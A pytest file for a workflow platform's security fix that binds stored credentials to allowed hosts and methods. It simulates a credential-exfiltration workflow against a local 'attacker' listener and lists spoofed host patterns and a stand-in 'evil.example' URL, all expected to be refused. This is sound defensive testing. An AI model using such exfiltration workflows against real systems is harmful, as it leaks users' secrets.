"""Issue 24, finding 2: a stored credential only rides on requests to the hosts and with
the methods an admin bound it to, and only admins or the roles/scopes it is shared with
may put it into a published workflow. A listener on 127.0.0.1 (opened through the
allowlist, as the other http_request tests do) plays the attacker's host."""

from __future__ import annotations

from typing import Any

import pytest

from apps.customers.models import Customer
from apps.engine.events import events_handle
from apps.engine.models import Run, RunState
from apps.integrations.binding import host_matches, host_pattern_valid
from apps.integrations.http import http_request
from apps.integrations.models import AllowedHost, Credential
from apps.integrations.services import credential_create
from tests.engine.conftest import ingest
from tests.engine.runs_helpers import advance_all
from tests.workflows.graphs import edge, graph, node, trigger

pytestmark = pytest.mark.django_db

SECRET = "tok-exfiltrate-me"


@pytest.fixture
def listener(local_server) -> Any:
    AllowedHost.objects.create(host="127.0.0.1", port=local_server.port, note="attacker")
    return local_server


def leaked(server: Any) -> list[dict[str, Any]]:
    return [seen for seen in server.seen if SECRET in str(seen["headers"])]


def exfiltration(server: Any, credential_id: int, method: str = "POST") -> dict[str, Any]:
    return graph(trigger(), node("h1", "action.http_request", {
        "method": method, "url": server.url("/echo"), "credential_id": credential_id,
        "body": '{"customer": {{ customer.id | json }}}' if method == "POST" else None,
    }), edges=[edge("t1", "h1")])


def crm_credential(**binding: Any) -> Credential:
    return credential_create(name="crm", kind="bearer", secret=SECRET,
                             **{"allowed_hosts": ["crm.example.com"], **binding})


def publish_through_api(client: Any, body: dict[str, Any]) -> Any:
    created = client.post("/api/v1/workflows", {"name": "export", "graph": body},
                          format="json")
    assert created.status_code == 201, created.json()
    return client.post(f"/api/v1/workflows/{created.json()['id']}/publish", {}, format="json")


@pytest.mark.parametrize("who", ["publisher", "workflows:write"])
def test_publishing_a_credential_to_a_foreign_host_is_refused(client_as, key_client, listener,
                                                              who):
    """Before: the publish succeeded and the run sent `Bearer tok-…` to the listener."""
    credential = crm_credential(shared_roles=["publisher"], shared_scopes=["workflows:write"])
    client = client_as(who) if who == "publisher" else key_client(who)

    response = publish_through_api(client, exfiltration(listener, credential.id))

    assert response.status_code == 400, response.json()
    [error] = response.json()["errors"]
    assert (error["node"], error["field"], error["code"]) == (
        "h1", "graph.nodes.1.config.credential_id", "credential_host_not_allowed")
    assert "may not be sent to 127.0.0.1" in error["message"]
    Customer.objects.create(external_id="c1", email="ada@example.com")
    events_handle(ingest("c1", "feedback.submitted"))
    advance_all()
    assert leaked(listener) == [] and listener.seen == []


@pytest.mark.parametrize("who", ["publisher", "workflows:write"])
def test_an_unshared_credential_cannot_be_published(client_as, key_client, listener, who):
    credential = crm_credential(allowed_hosts=["127.0.0.1"])
    client = client_as(who) if who == "publisher" else key_client(who)

    response = publish_through_api(client, exfiltration(listener, credential.id))

    assert response.status_code == 400, response.json()
    [error] = response.json()["errors"]
    assert (error["node"], error["code"]) == ("h1", "credential_not_shared")
    assert error["field"] == "graph.nodes.1.config.credential_id"


@pytest.mark.parametrize(("who", "shared"), [
    pytest.param("publisher", {"shared_roles": ["publisher"]}, id="shared-with-role"),
    pytest.param("workflows:write", {"shared_scopes": ["workflows:write"]},
                 id="shared-with-scope"),
    pytest.param("admin", {}, id="admin-needs-no-share"),
])
def test_bound_and_shared_credential_is_sent(client_as, key_client, listener, who, shared):
    credential = crm_credential(allowed_hosts=["127.0.0.1"], **shared)
    client = key_client(who) if ":" in who else client_as(who)

    response = publish_through_api(client, exfiltration(listener, credential.id))

    assert response.status_code == 200, response.json()
    Customer.objects.create(external_id="c1", email="ada@example.com")
    events_handle(ingest("c1", "feedback.submitted"))
    advance_all()
    assert len(leaked(listener)) == 1  # the legitimate call carries it


def test_send_time_refuses_a_host_the_credential_was_unbound_from(client_as, listener):
    """A credential re-bound after publishing: the published run fails the step with a
    plain reason and the secret never leaves."""
    credential = crm_credential(allowed_hosts=["127.0.0.1"])
    response = publish_through_api(client_as("admin"), exfiltration(listener, credential.id))
    assert response.status_code == 200, response.json()
    Credential.objects.filter(pk=credential.pk).update(allowed_hosts=["crm.example.com"])
    Customer.objects.create(external_id="c1", email="ada@example.com")

    events_handle(ingest("c1", "feedback.submitted"))
    advance_all()

    run = Run.objects.get()
    assert run.state == RunState.FAILED
    assert run.error == ("h1: credential crm may not be sent to 127.0.0.1 (allowed hosts: "
                         "crm.example.com)")
    assert listener.seen == []


@pytest.mark.parametrize(("binding", "method", "message"), [
    pytest.param({"allowed_hosts": []}, "GET",
                 "credential crm is not bound to any host yet; an admin must list the hosts "
                 "it may be sent to", id="unbound"),
    pytest.param({"allowed_hosts": ["*.example.com"]}, "GET",
                 "credential crm may not be sent to 127.0.0.1 (allowed hosts: *.example.com)",
                 id="other-host"),
    pytest.param({"allowed_hosts": ["127.0.0.1"], "allowed_methods": ["GET"]}, "POST",
                 "credential crm may not be used with POST (allowed methods: GET)",
                 id="other-method"),
])
def test_http_request_refuses_before_connecting(listener, binding, method, message):
    credential = crm_credential(**binding)

    result = http_request(method=method, url=listener.url("/echo"), headers={}, json=None,
                          credential_id=credential.id, timeout_seconds=5, idempotency_key="k")

    assert (result["status"], result["error"], result["retryable"]) == (0, message, False)
    assert listener.seen == []


def test_redirect_to_a_method_the_credential_lacks_drops_it(listener):
    """303 turns a POST into a GET on the same host: a POST-only credential stays behind."""
    credential = crm_credential(allowed_hosts=["127.0.0.1"], allowed_methods=["POST"])
    target = listener.url("/echo")

    result = http_request(method="POST", url=listener.url(f"/redirect303?{target}"), headers={},
                          json={"a": 1}, credential_id=credential.id, timeout_seconds=5,
                          idempotency_key="k")

    assert result["status"] == 200 and result["json"]["method"] == "GET"
    assert [SECRET in str(seen["headers"]) for seen in listener.seen] == [True, False]


@pytest.mark.parametrize(("pattern", "host", "matches"), [
    ("crm.example.com", "crm.example.com", True),
    ("crm.example.com", "CRM.Example.com.", True),
    ("crm.example.com", "evil-crm.example.com", False),
    ("*.example.com", "a.example.com", True),
    ("*.example.com", "a.b.example.com", True),
    ("*.example.com", "example.com", False),
    ("*.example.com", "example.com.evil.net", False),
    ("*.example.com", "badexample.com", False),
    ("127.0.0.1", "127.0.0.1", True),
])
def test_host_matches(pattern, host, matches):
    assert host_matches(pattern, host) is matches


@pytest.mark.parametrize(("pattern", "valid"), [
    ("crm.example.com", True), ("*.example.com", True), ("10.1.2.3", True), ("fd00::5", True),
    ("*.com", False), ("*", False), ("crm.*.com", False), ("https://crm.example.com", False),
    ("crm.example.com/path", False), ("", False),
])
def test_host_pattern_valid(pattern, valid):
    assert host_pattern_valid(pattern) is valid


def test_validate_tells_the_caller_before_publishing(client_as, listener):
    credential = crm_credential(allowed_hosts=["127.0.0.1"])
    publisher = client_as("publisher")
    created = publisher.post("/api/v1/workflows", {
        "name": "export", "graph": exfiltration(listener, credential.id)}, format="json")

    mine = publisher.post(f"/api/v1/workflows/{created.json()['id']}/validate").json()
    admins = client_as("admin").post(f"/api/v1/workflows/{created.json()['id']}/validate").json()

    assert [(e["node"], e["code"]) for e in mine["errors"]] == [("h1", "credential_not_shared")]
    assert admins == {"valid": True, "errors": [], "warnings": admins["warnings"]}


def test_rollback_to_a_version_with_an_unshared_credential_is_refused(client_as, listener):
    credential = crm_credential(allowed_hosts=["127.0.0.1"])
    admin = client_as("admin")
    workflow_id = admin.post("/api/v1/workflows", {
        "name": "export", "graph": exfiltration(listener, credential.id)},
        format="json").json()["id"]
    assert admin.post(f"/api/v1/workflows/{workflow_id}/publish", {}, format="json") \
        .status_code == 200
    detail = admin.get(f"/api/v1/workflows/{workflow_id}").json()
    graph_v2 = {**detail["graph"], "nodes": detail["graph"]["nodes"][:1], "edges": []}
    graph_v2["nodes"].append(node("h2", "action.update_customer", {"add_tags": ["x"]}))
    graph_v2["edges"] = [edge("t1", "h2")]
    saved = admin.put(f"/api/v1/workflows/{workflow_id}",
                      {"graph": graph_v2, "revision": detail["revision"]}, format="json")
    assert saved.status_code == 200, saved.json()
    assert admin.post(f"/api/v1/workflows/{workflow_id}/publish", {}, format="json") \
        .status_code == 200

    response = client_as("publisher").post(
        f"/api/v1/workflows/{workflow_id}/versions/1/rollback", {}, format="json")

    assert response.status_code == 400, response.json()
    assert [(e["node"], e["code"]) for e in response.json()["errors"]] == [
        ("h1", "credential_not_shared")]


def test_a_connector_is_bound_like_http_request(client_as, listener, settings):
    """A Zendesk node sends its credential to the Zendesk host: a credential bound to
    another host cannot be published on it, and the bound one is sent by a real run."""
    settings.KEEPFLOW_CONNECTOR_ORIGINS = {"zendesk": f"http://127.0.0.1:{listener.port}"}
    ticket = {"subdomain": "acme", "subject": "Call {{ customer.first_name }}",
              "description": "Negative feedback", "priority": "high"}
    foreign = crm_credential()
    refused = publish_through_api(client_as("admin"), graph(trigger(), node(
        "z1", "action.zendesk_ticket", {**ticket, "credential_id": foreign.id}),
        edges=[edge("t1", "z1")]))
    assert refused.status_code == 400
    assert [(e["node"], e["code"]) for e in refused.json()["errors"]] == [
        ("z1", "credential_host_not_allowed")]

    bound = credential_create(name="zendesk", kind="bearer", secret=SECRET,
                              allowed_hosts=["127.0.0.1"], allowed_methods=["POST"])
    published = publish_through_api(client_as("admin"), graph(trigger(), node(
        "z1", "action.zendesk_ticket", {**ticket, "credential_id": bound.id}),
        edges=[edge("t1", "z1")]))
    assert published.status_code == 200, published.json()
    Customer.objects.create(external_id="c1", email="ada@example.com", first_name="Ada")
    events_handle(ingest("c1", "feedback.submitted"))
    advance_all()

    [sent] = listener.seen
    assert (sent["method"], sent["path"]) == ("POST", "/api/v2/tickets")
    assert sent["headers"]["Authorization"] == f"Bearer {SECRET}"
    run = Run.objects.get()
    assert run.state == RunState.FAILED  # the local server has no /api/v2/tickets: 404
    assert "Zendesk refused" in str(run.error)


def test_a_webhook_url_credential_goes_only_to_its_own_url():
    from apps.integrations.binding import credential_destination_issue

    hook = credential_create(name="teams", kind="url",
                             secret="https://prod-1.westeurope.logic.azure.com/wf?sig=x",
                             allowed_hosts=["*.logic.azure.com"])
    token = crm_credential()

    assert credential_destination_issue(hook, "POST", "") is None
    assert credential_destination_issue(hook, "POST", "https://evil.example/")[0] == \
        "credential_is_url"
    assert credential_destination_issue(token, "POST", "")[0] == "credential_not_url"


@pytest.mark.parametrize(("secret", "ok"), [
    pytest.param("https://prod-1.westeurope.logic.azure.com/wf?sig=x", True, id="https"),
    pytest.param("http://hooks.example.com/x", False, id="http"),
    pytest.param("not a url", False, id="text"),
])
def test_a_webhook_url_credential_is_a_whole_https_url(client_as, secret, ok):
    response = client_as("admin").post("/api/v1/credentials", {
        "name": "teams", "kind": "url", "secret": secret,
        "allowed_hosts": ["*.logic.azure.com"]}, format="json")

    assert response.status_code == (201 if ok else 400), response.json()
    assert "sig=x" not in str(response.json())
